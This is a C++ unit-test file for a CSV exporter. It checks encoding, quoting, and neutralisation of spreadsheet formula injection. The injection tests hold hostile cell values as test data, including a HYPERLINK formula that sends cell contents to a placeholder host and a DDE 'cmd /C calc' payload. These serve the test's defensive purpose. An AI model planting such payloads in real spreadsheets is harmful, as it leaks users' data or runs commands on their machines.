// Tests of outbox/csv.cpp (docs/reference.md §5.2; docs/field-cases.md F29, F30, F31, F32).
#include "outbox/csv.hpp"

#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

namespace raccord::outbox {
namespace {

const std::string kBom = "\xEF\xBB\xBF";

std::string write(const std::vector<std::vector<std::string>>& rows) {
  std::ostringstream out;
  CsvWriter writer(out);
  for (const auto& r : rows) writer.row(r);
  return out.str();
}

/// Reads back CSV written by CsvWriter (after the BOM): RFC 4180, ';', CRLF. Test-only parser.
std::vector<std::vector<std::string>> parse(std::string_view text) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  std::string cell;
  bool quoted = false;
  std::size_t i = 0;
  while (i < text.size()) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        cell.push_back('"');
        i += 2;
        continue;
      }
      if (c == '"') {
        quoted = false;
      } else {
        cell.push_back(c);
      }
      ++i;
      continue;
    }
    if (c == '"') {
      quoted = true;
      ++i;
    } else if (c == ';') {
      row.push_back(cell);
      cell.clear();
      ++i;
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      row.push_back(cell);
      cell.clear();
      rows.push_back(row);
      row.clear();
      i += 2;
    } else {
      cell.push_back(c);
      ++i;
    }
  }
  EXPECT_FALSE(quoted) << "unterminated quoted cell";
  EXPECT_TRUE(cell.empty() && row.empty()) << "last row not ended by CRLF";
  return rows;
}

TEST(CsvWriter, F29_StartsWithBomAndHasNoSepLine) {
  const std::string csv = write({{"Société Générale d'Exemple", "Équipe réseau", "Noël Test"}});
  ASSERT_GE(csv.size(), 3U);
  EXPECT_EQ(static_cast<unsigned char>(csv[0]), 0xEF);
  EXPECT_EQ(static_cast<unsigned char>(csv[1]), 0xBB);
  EXPECT_EQ(static_cast<unsigned char>(csv[2]), 0xBF);
  EXPECT_EQ(csv.find("sep="), std::string::npos);
  // Accents are written as their UTF-8 bytes, untouched.
  EXPECT_EQ(csv, kBom + "Société Générale d'Exemple;Équipe réseau;Noël Test\r\n");
}

TEST(CsvWriter, EmptyExportIsJustTheBom) {
  EXPECT_EQ(write({}), kBom);
}

TEST(CsvWriter, ByteExactSeparatorsAndCrlf) {
  const std::string csv = write({{"Partenaire", "Code Appli partenaire", "Etat courant"},
                                 {"35600000000048 - ACME", "VFE039", "Activée"},
                                 {"", "", ""},
                                 {}});
  EXPECT_EQ(csv, kBom +
                     "Partenaire;Code Appli partenaire;Etat courant\r\n"
                     "35600000000048 - ACME;VFE039;Activée\r\n"
                     ";;\r\n"
                     "\r\n");
}

TEST(CsvWriter, Rfc4180Quoting) {
  EXPECT_EQ(CsvWriter::cell("a;b"), "\"a;b\"");
  EXPECT_EQ(CsvWriter::cell("dit \"bonjour\""), "\"dit \"\"bonjour\"\"\"");
  EXPECT_EQ(CsvWriter::cell("\""), "\"\"\"\"");
  EXPECT_EQ(CsvWriter::cell("ligne 1\nligne 2"), "\"ligne 1\nligne 2\"");
  EXPECT_EQ(CsvWriter::cell("a\rb"), "\"a\rb\"");
  EXPECT_EQ(CsvWriter::cell("a,b"), "a,b");  // ',' is not the separator
  EXPECT_EQ(CsvWriter::cell("l'atelier"), "l'atelier");
  EXPECT_EQ(CsvWriter::cell(""), "");
}

TEST(CsvWriter, EmbeddedNewlineInRaisonSociale) {
  const std::string csv = write({{"35600000000048 - ACME\r\nIndustries; Sud", "VFE039"}});
  EXPECT_EQ(csv, kBom + "\"35600000000048 - ACME\r\nIndustries; Sud\";VFE039\r\n");
  const auto rows = parse(std::string_view(csv).substr(3));
  ASSERT_EQ(rows.size(), 1U);
  EXPECT_EQ(rows[0], (std::vector<std::string>{"35600000000048 - ACME\r\nIndustries; Sud", "VFE039"}));
}

TEST(CsvWriter, F31_EveryInjectionCaseIsPrefixed) {
  EXPECT_EQ(CsvWriter::cell("=HYPERLINK(\"http://exemple.invalid/?d=\"&A2;\"Cliquer\")"),
            "\"'=HYPERLINK(\"\"http://exemple.invalid/?d=\"\"&A2;\"\"Cliquer\"\")\"");
  EXPECT_EQ(CsvWriter::cell("@SUM(1+1)"), "'@SUM(1+1)");
  EXPECT_EQ(CsvWriter::cell("-2+3"), "'-2+3");
  EXPECT_EQ(CsvWriter::cell("+jeanne@exemple.fr"), "'+jeanne@exemple.fr");
  EXPECT_EQ(CsvWriter::cell("\tACME"), "'\tACME");
  EXPECT_EQ(CsvWriter::cell("\r=1+1"), "\"'\r=1+1\"");
  EXPECT_EQ(CsvWriter::cell("\n=1+1"), "\"'\n=1+1\"");
  EXPECT_EQ(CsvWriter::cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
  // Full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20.
  EXPECT_EQ(CsvWriter::cell("＝1+1"), "'＝1+1");
  EXPECT_EQ(CsvWriter::cell("＋33 4 65 71 23 45"), "'＋33 4 65 71 23 45");
  EXPECT_EQ(CsvWriter::cell("－1"), "'－1");
  EXPECT_EQ(CsvWriter::cell("＠SUM(A1)"), "'＠SUM(A1)");
}

TEST(CsvWriter, F31_TriggersOnlyAtTheStart) {
  EXPECT_EQ(CsvWriter::cell("jeanne@exemple.fr"), "jeanne@exemple.fr");
  EXPECT_EQ(CsvWriter::cell("1+1=2"), "1+1=2");
  EXPECT_EQ(CsvWriter::cell("04 65 71 23 45"), "04 65 71 23 45");
  EXPECT_EQ(CsvWriter::cell("Jean-Pierre"), "Jean-Pierre");
  EXPECT_EQ(CsvWriter::cell(" =1"), " =1");
  // Other full-width characters are not triggers (U+FF01 '！', U+FF21 'Ａ').
  EXPECT_EQ(CsvWriter::cell("！"), "！");
  EXPECT_EQ(CsvWriter::cell("Ａ"), "Ａ");
}

TEST(CsvWriter, F31_NoCellOfTheFileStartsWithATrigger) {
  const std::vector<std::string> hostile = {
      "=HYPERLINK(\"http://exemple.invalid/?d=\"&A2;\"Cliquer\")",
      "@SUM(1+1)",
      "-2+3",
      "+jeanne@exemple.fr",
      "\tACME",
      "\r=1+1",
      "＝1+1",
      "＋1",
      "－1",
      "＠A1",
  };
  const std::string csv = write({hostile, {"Emma", "35600000000048"}});
  const auto rows = parse(std::string_view(csv).substr(3));
  ASSERT_EQ(rows.size(), 2U);
  ASSERT_EQ(rows[0].size(), hostile.size());
  for (std::size_t i = 0; i < hostile.size(); ++i) {
    EXPECT_EQ(rows[0][i], "'" + hostile[i]) << i;
  }
  for (const auto& row : rows) {
    for (const std::string& cell : row) {
      ASSERT_FALSE(cell.empty());
      EXPECT_EQ(std::string("=+-@\t\r\n").find(cell.front()), std::string::npos) << cell;
      for (const char* wide : {"\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"}) {
        EXPECT_NE(cell.rfind(wide, 0), 0U) << cell;
      }
    }
  }
  EXPECT_EQ(rows[1], (std::vector<std::string>{"Emma", "35600000000048"}));
}

TEST(CsvWriter, F32_IdentifiersAreExactlyTheirDigits) {
  // docs/reference.md §5.2: every cell exactly the text, no ="…" tricks; leading zeros stay on disk.
  const std::string csv = write({{"35600000000048", "00048", "00420", "01000", "0022"}});
  EXPECT_EQ(csv, kBom + "35600000000048;00048;00420;01000;0022\r\n");
  EXPECT_EQ(csv.find("=\""), std::string::npos);
}

TEST(CsvWriter, FrenchDatesAreUnchanged) {
  EXPECT_EQ(CsvWriter::cell("30/06/2026"), "30/06/2026");
}

TEST(CsvWriter, StreamsEachRowAsItIsWritten) {
  std::ostringstream out;
  CsvWriter writer(out);
  EXPECT_EQ(out.str(), kBom);
  writer.row({"a", "b"});
  EXPECT_EQ(out.str(), kBom + "a;b\r\n");
  writer.row({"c"});
  EXPECT_EQ(out.str(), kBom + "a;b\r\nc\r\n");
}

}  // namespace
}  // namespace raccord::outbox
